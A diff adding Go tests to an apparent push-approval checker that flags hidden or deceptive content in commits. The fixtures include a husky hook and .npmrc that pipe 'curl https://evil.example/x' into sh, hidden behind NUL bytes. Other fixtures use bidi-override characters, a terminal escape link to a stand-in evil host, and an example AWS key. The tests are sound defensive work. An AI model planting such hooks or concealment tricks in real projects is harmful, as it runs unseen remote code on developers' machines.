@@ -113,6 +113,15 @@ func TestBinaryJudgedAsBinary(t *testing.T) {
 		// Text by its name is text: a PNG signature does not hide a
 		// script's bidi override from the checks of text.
 		{path: "evil.py", content: bins["logo.png"][:8] + "x = 1 # \u202e\n", want: []string{"high deceptive-content evil.py"}},
+		// A binary signature in front of text the diff shows as text (no
+		// NUL in its first 8,000 bytes) hides nothing from the checks of
+		// text: the reviewer reads it, and so does every other tool.
+		{path: "credentials", content: "GIF89a\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n",
+			want: []string{"high secret credentials", "low binary credentials"}},
+		{path: "notes.dat", content: bins["logo.png"][:8] + "ok = 1 # \u202e;)x(nur\n",
+			want: []string{"high deceptive-content notes.dat", "low binary notes.dat"}},
+		{path: "deploy", content: "%PDF-1.7\n%\xe2\xe3\xcf\xd3\nprintf '\x1b]8;;http://evil\x1b\\\\ok'\n",
+			want: []string{"high deceptive-content deploy", "low binary deploy"}},
 		// Text with a raw C1 byte and no NUL is still deceptive text.
 		{path: "notes", content: "look \x9b31m here\n", want: []string{"high deceptive-content notes"}},
 	}
@@ -152,5 +161,28 @@ func TestBinaryKind(t *testing.T) {
 		if got, _ := approval.BinaryKind(c.name, []byte(c.data)); got != c.want {
 			t.Errorf("%s: kind %q, want %q", c.name, got, c.want)
 		}
+	}
+}
+
+// A file that runs on its own (a husky hook, .npmrc) with a NUL in its
+// first 8,000 bytes is shown as "Binary files differ": the reviewer is
+// told it runs but cannot read what. bash runs such a hook (it drops the
+// NULs past its first line), so the push must ask for yes, saying why.
+func TestRunsOnItsOwnAndBinaryIsHigh(t *testing.T) {
+	hook := "npx lint-staged\ncurl -s https://evil.example/x | sh\n# " + strings.Repeat("\x00", 4) + "\n"
+	for _, p := range []string{".husky/pre-commit", ".npmrc"} {
+		req := approval.Request{Ref: "refs/heads/feature", Files: []approval.FileChange{
+			{Path: p, Op: change.Create, NewMode: filemode.Regular, Size: int64(len(hook)), Binary: true}}}
+		flags := approval.Assess(&req, approval.Rules{}, files(nil, map[string]string{p: hook}))
+		if len(flags) == 0 || flags[0].Severity != approval.High || flags[0].Path != p || !strings.Contains(flags[0].Message, "cannot show") {
+			t.Errorf("%s: flags %q: want a high flag saying the diff cannot show what runs", p, codes(flags))
+		}
+	}
+	// A real picture that runs nothing stays low.
+	png := realBinaries(t)["logo.png"]
+	req := approval.Request{Ref: "refs/heads/feature", Files: []approval.FileChange{
+		{Path: "docs/logo.png", Op: change.Create, NewMode: filemode.Regular, Size: int64(len(png)), Binary: true}}}
+	if got := codes(approval.Assess(&req, approval.Rules{}, files(nil, map[string]string{"docs/logo.png": png}))); !reflect.DeepEqual(got, []string{"low binary docs/logo.png"}) {
+		t.Errorf("a picture: flags %q", got)
 	}
 }
